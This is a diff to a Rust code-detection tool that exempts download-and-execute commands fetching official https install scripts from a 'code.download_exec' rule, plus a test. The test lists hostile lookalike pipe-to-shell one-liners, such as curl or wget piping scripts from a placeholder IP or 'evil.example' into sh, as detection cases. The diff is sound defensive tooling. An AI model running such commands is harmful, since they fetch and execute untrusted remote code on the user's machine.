@@ -412,6 +412,9 @@ impl CodeDetector {
                     return;
                 }
                 let (start, end) = super::char_span(text, m.start(), m.end());
+                if rule.detector == "code.download_exec" && official_install(text, start, end) {
+                    continue;
+                }
                 let in_fence = fences
                     .get_or_insert_with(|| fenced_blocks(text))
                     .iter()
@@ -429,6 +432,58 @@ impl CodeDetector {
             }
         }
     }
+}
+
+/// The official install scripts of `data/official_installers.txt`: hosts, and hosts with a path prefix.
+fn official_installers() -> &'static [&'static str] {
+    static LIST: std::sync::OnceLock<Vec<&'static str>> = std::sync::OnceLock::new();
+    LIST.get_or_init(|| {
+        include_str!("data/official_installers.txt")
+            .lines()
+            .map(str::trim)
+            .filter(|l| !l.is_empty() && !l.starts_with('#'))
+            .collect()
+    })
+}
+
+/// Whether the lines of a download-and-execute match (`start..end` of the folded `text`) fetch only
+/// official install scripts: at least one URL, every one https and on the list. The whole lines are read
+/// since a rule's match may stop before the URL (`sh -c "$(curl`, `iex (… .downloadstring`).
+fn official_install(text: &str, start: usize, end: usize) -> bool {
+    let line_start = text[..start].rfind('\n').map_or(0, |p| p + 1);
+    let line_end = text[end..].find('\n').map_or(text.len(), |p| end + p);
+    let lines = &text[line_start..line_end];
+    let mut urls = 0;
+    let mut from = 0;
+    while let Some(at) = lines[from..].find("://") {
+        let scheme_end = from + at;
+        let scheme_start = lines[..scheme_end]
+            .rfind(|c: char| !c.is_ascii_alphanumeric())
+            .map_or(0, |p| p + 1);
+        let rest = &lines[scheme_end + 3..];
+        let url = &rest[..rest
+            .find(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ')' | '(' | '`' | '|' | ';'))
+            .unwrap_or(rest.len())];
+        urls += 1;
+        if &lines[scheme_start..scheme_end] != "https" || !is_official(url) {
+            return false;
+        }
+        from = scheme_end + 3;
+    }
+    urls > 0
+}
+
+/// `url` (host and path, no scheme) is an entry of the list: a host-only entry matches that exact host
+/// (then a path, a query or nothing), one with a path matches as a prefix.
+fn is_official(url: &str) -> bool {
+    official_installers().iter().any(|entry| {
+        if entry.contains('/') {
+            url.starts_with(entry)
+        } else {
+            url.strip_prefix(entry)
+                .is_some_and(|rest| rest.is_empty() || rest.starts_with(['/', '?']))
+        }
+    })
 }
 
 /// Byte ranges of ```/~~~ fenced blocks (an unclosed fence runs to the end).
@@ -484,6 +539,31 @@ mod tests {
             .collect();
         v.dedup();
         v
+    }
+
+    #[test]
+    fn official_install_scripts_are_not_download_and_execute_and_lookalikes_are() {
+        for official in [
+            "```sh\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n```",
+            "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
+            "/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"",
+            "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient)\
+             .DownloadString('https://community.chocolatey.org/install.ps1'))",
+            "curl -LsSf https://astral.sh/uv/install.sh | sh",
+        ] {
+            assert_eq!(names(official), Vec::<&str>::new(), "{official}");
+        }
+        for lookalike in [
+            "curl -sSf https://sh.rustup.rs.example-mirror.io | sh",
+            "curl -sSf http://sh.rustup.rs | sh",
+            "curl -sSf https://sh.rustup.rs@203.0.113.9/i | sh",
+            "curl -fsSL https://raw.githubusercontent.com/someone/tools/main/install.sh | bash",
+            "curl -fsSL https://get.docker.com https://203.0.113.9/x.sh | sh",
+            "curl -fsSL get.docker.com | sh && curl -s https://203.0.113.9/p | sh",
+            "wget -qO- evil.example/x.sh | sh",
+        ] {
+            assert_eq!(names(lookalike), ["code.download_exec"], "{lookalike}");
+        }
     }
 
     #[test]
